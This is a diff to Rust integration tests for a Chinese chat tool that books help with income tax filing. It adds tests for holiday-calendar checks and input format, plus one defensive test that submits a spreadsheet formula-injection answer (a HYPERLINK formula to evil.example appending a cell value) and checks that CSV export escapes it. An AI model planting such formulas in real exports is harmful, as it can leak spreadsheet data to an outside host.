@@ -109,6 +109,20 @@ fn check_names_each_broken_message_of_the_catalog() {
 }
 
 #[test]
+fn check_refuses_a_holiday_calendar_with_a_weekday_worked() {
+    let dialogs = data_copy("dialogs", "holidays.toml", |text| text.replace("\"2026-10-10\"", "\"2026-10-09\""));
+    let output = run(&["check", "--dialogs", dialogs.path().to_str().unwrap()], "");
+    assert!(!output.status.success());
+    let message = stderr(&output);
+    assert!(
+        message.contains("holidays.toml: 国庆节: the worked day 2026-10-09 is a Fri, not a weekend day"),
+        "{message}"
+    );
+    let shipped = run(&["check"], "");
+    assert!(stdout(&shipped).contains("public holidays of {2026, 2027}"), "{}", stdout(&shipped));
+}
+
+#[test]
 fn another_city_changes_the_wording_in_the_corpus_without_code() {
     let corpus = data_copy("corpus", "messages.toml", |text| {
         text.replace("您当前没有正在填写的表单。", "现在没有要取消的表单。")
@@ -123,7 +137,7 @@ fn another_city_changes_the_wording_in_the_corpus_without_code() {
 fn a_transcript_piped_into_chat_files_an_application_that_the_staff_list_shows() {
     let workdir = tempfile::tempdir().unwrap();
     let transcript =
-        "预约个税汇算辅导\n1\n孙小美\n13800138000\n湛江港集团\n2026-12-30\n1\n专项附加扣除怎么填报？\n确认\n";
+        "预约个税汇算辅导\n#1\n孙小美\n13800138000\n湛江港集团\n2026-12-30\n#1\n专项附加扣除怎么填报？\n确认\n";
     let chat = run_in(workdir.path(), &["chat", "--user", "u1"], transcript);
     assert!(chat.status.success(), "{}", stderr(&chat));
     let text = stdout(&chat);
@@ -140,10 +154,24 @@ fn a_transcript_piped_into_chat_files_an_application_that_the_staff_list_shows()
 }
 
 #[test]
+fn an_answer_written_as_a_formula_is_exported_as_text() {
+    let workdir = tempfile::tempdir().unwrap();
+    let formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"查看\")";
+    let transcript =
+        format!("预约个税汇算辅导\n#1\n孙小美\n13800138000\n湛江港集团\n2026-12-30\n#1\n{formula}\n确认\n");
+    assert!(run_in(workdir.path(), &["chat"], &transcript).status.success());
+    let csv = run_in(workdir.path(), &["applications", "export", "--format", "csv", "--out", "-"], "");
+    let csv = stdout(&csv);
+    assert!(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"查看\"\")\""), "{csv}");
+    let json = run_in(workdir.path(), &["applications", "export", "--format", "json", "--out", "-"], "");
+    assert!(stdout(&json).contains("\"=HYPERLINK("), "JSON keeps the answer as given: {}", stdout(&json));
+}
+
+#[test]
 fn staff_commands_review_an_application_and_export_it() {
     let workdir = tempfile::tempdir().unwrap();
     let transcript =
-        "预约个税汇算辅导\n1\n孙小美\n13800138000\n湛江港集团\n2026-12-30\n2\n专项附加扣除怎么填报？\n确认\n";
+        "预约个税汇算辅导\n#1\n孙小美\n13800138000\n湛江港集团\n2026-12-30\n#2\n专项附加扣除怎么填报？\n确认\n";
     run_in(workdir.path(), &["chat"], transcript);
     let listed = stdout(&run_in(workdir.path(), &["applications", "list"], ""));
     let reference = listed.split_whitespace().next().unwrap().to_owned();
